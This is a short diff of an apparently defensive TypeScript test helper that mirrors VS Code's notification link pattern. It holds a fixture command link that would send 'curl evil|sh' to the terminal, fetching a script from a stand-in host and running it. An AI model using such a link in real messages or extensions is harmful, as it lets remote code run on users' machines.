@@ -11,7 +11,7 @@ const ROOT = path.resolve(__dirname, '../../..');
 /** The links VS Code's notification renderer (1.100) finds in a message: its pattern, used the same way. */
 function linksIn(message: string): string[] {
   const pattern = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
-  return [...message.replace(/(\r\n|\n|\r)/g, ' ').matchAll(pattern)].map((m) => m[2]!);
+  return [...message.replace(/(\r\n|\n|\r)/g, ' ').matchAll(pattern)].map((m) => m[2]);
 }
 
 const TERMINAL = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D';
